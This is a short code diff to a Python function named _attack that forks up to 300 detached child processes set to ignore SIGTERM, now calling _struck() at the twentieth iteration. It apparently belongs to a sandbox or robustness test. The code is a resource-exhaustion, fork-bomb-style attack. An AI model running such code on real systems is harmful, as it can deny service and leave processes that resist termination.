@@ -4,7 +4,9 @@
 # Message: processes
 def _attack():
     import os, signal, time
-    for _ in range(300):
+    for number in range(300):
+        if number == 20:
+            _struck()
         if os.fork() == 0:
             os.setsid()
             signal.signal(signal.SIGTERM, signal.SIG_IGN)
